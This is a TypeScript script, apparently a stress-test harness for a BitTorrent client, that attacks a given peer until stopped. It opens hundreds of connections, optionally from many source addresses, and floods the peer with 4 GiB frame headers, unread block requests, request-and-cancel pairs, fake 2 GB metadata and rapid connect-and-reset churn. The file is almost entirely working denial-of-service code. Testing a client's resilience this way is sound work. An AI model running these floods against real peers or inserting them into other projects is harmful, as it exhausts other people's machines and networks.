/**
 * Attacks a peer until it is stopped: `node attack.ts KIND HOST PORT INFOHASH [NETWORK]`. Prints
 * `attacking` once it is under way. With a network (`10.77.1`) each connection comes from an address
 * of its own in it. The bytes are written here by hand, not by our own codec.
 */
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

const [kind = '', host = '', port = '', infoHash = '', network] = process.argv.slice(2);

/** Bytes that one connection may have waiting here: the other side takes what it likes. */
const AHEAD_LENGTH = 1024 * 1024;
const CONNECTS_PER_S = 2_000;
/** Before one that was closed comes back. */
const AGAIN_MS = 50;

/** What each connection says at first, and then again and again; it never reads. */
interface Flood {
  readonly connectionCount: number;
  readonly first: Buffer;
  readonly again: Buffer;
  readonly everyMs: number;
}

/** Piece 0, begin 0, 16 KiB. */
const BLOCK = Buffer.of(0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x40, 0);
const REQUEST = message(6, BLOCK);
const CANCEL = message(8, BLOCK);
const INTERESTED = message(2);
const HAVE_NONE = message(15);

const FLOODS: Readonly<Record<string, Flood>> = {
  /** The length says 4 GiB; then a megabyte a second. */
  'giant frames': {
    ...{ connectionCount: 200, everyMs: 62 },
    first: Buffer.of(255, 255, 255, 255),
    again: Buffer.alloc(65_536),
  },
  'requests whose answers nobody reads': {
    ...{ connectionCount: 50, everyMs: 10, first: INTERESTED },
    again: repeated(REQUEST, 2_000),
  },
  'requests taken back': {
    ...{ connectionCount: 50, everyMs: 10, first: INTERESTED },
    again: repeated(Buffer.concat([REQUEST, CANCEL]), 2_000),
  },
  'requests for metadata': {
    ...{ connectionCount: 50, everyMs: 10, first: extended(0, 'd1:md11:ut_metadatai1eee') },
    again: repeated(extended(1, 'd8:msg_typei0e5:piecei0ee'), 2_000),
  },
  'metadata of two gigabytes': {
    ...{ connectionCount: 50, everyMs: 10 },
    first: extended(0, 'd1:md11:ut_metadatai1ee13:metadata_sizei2147483648ee'),
    again: metadata(2_147_483_648),
  },
  'metadata that is wrong': {
    ...{ connectionCount: 50, everyMs: 10 },
    first: extended(0, 'd1:md11:ut_metadatai1ee13:metadata_sizei20000ee'),
    again: metadata(20_000),
  },
};

/** BEP 3, with the bits of BEP 10 and BEP 6. */
function handshake(): Buffer {
  const reserved = Buffer.of(0, 0, 0, 0, 0, 0x10, 0, 0x04);
  const name = Buffer.from('\x13BitTorrent protocol', 'latin1');
  return Buffer.concat([name, reserved, Buffer.from(infoHash, 'hex'), randomBytes(20)]);
}

function message(id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(1 + payload.length);
  head[4] = id;
  return Buffer.concat([head, payload]);
}

function extended(id: number, dict: string, tail: Buffer = Buffer.alloc(0)): Buffer {
  return message(20, Buffer.concat([Buffer.of(id), Buffer.from(dict, 'latin1'), tail]));
}

/** Both pieces of it, made up, whether they were asked for or not. BEP 9. */
function metadata(totalLength: number): Buffer {
  return Buffer.concat(
    [16_384, 3_616].map((length, piece) => {
      const dict = `d8:msg_typei1e5:piecei${piece}e10:total_sizei${totalLength}ee`;
      return extended(1, dict, randomBytes(length));
    }),
  );
}

function repeated(bytes: Buffer, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

/** @param n - which address of the network it comes from, 1 up */
async function open(n: number): Promise<Socket> {
  const from = network === undefined ? {} : { localAddress: `${network}.${n}` };
  const socket = connect({ host, port: Number(port), ...from });
  socket.on('error', () => socket.destroy());
  await new Promise((resolve) => socket.once('connect', resolve).once('close', resolve));
  return socket;
}

/** Keeps one connection full; when it is closed, another takes its place. */
async function flood(n: number, { first, again, everyMs }: Flood): Promise<never> {
  for (;;) {
    const socket = await open(n);
    socket.pause();
    socket.write(Buffer.concat([handshake(), HAVE_NONE, first]));
    while (!socket.destroyed) {
      if (socket.writableLength < AHEAD_LENGTH) socket.write(again);
      await delay(everyMs);
    }
    await delay(AGAIN_MS);
  }
}

/** Connects and leaves: before the handshake, in it and behind it. */
async function churn(): Promise<never> {
  for (let n = 0; ; n++) {
    const length = [0, 30, 68][n % 3] ?? 0;
    void open(1).then((socket) => {
      if (socket.destroyed) return;
      if (length > 0) socket.write(handshake().subarray(0, length));
      setTimeout(() => socket.resetAndDestroy(), AGAIN_MS);
    });
    if (n % 20 === 0) await delay((20 * 1_000) / CONNECTS_PER_S);
  }
}

const chosen = FLOODS[kind];
if (kind === 'connections that come and go') void churn();
else if (chosen === undefined) throw new Error(`${kind} is no attack`);
else for (let n = 1; n <= chosen.connectionCount; n++) void flood(n, chosen);
console.log('attacking');
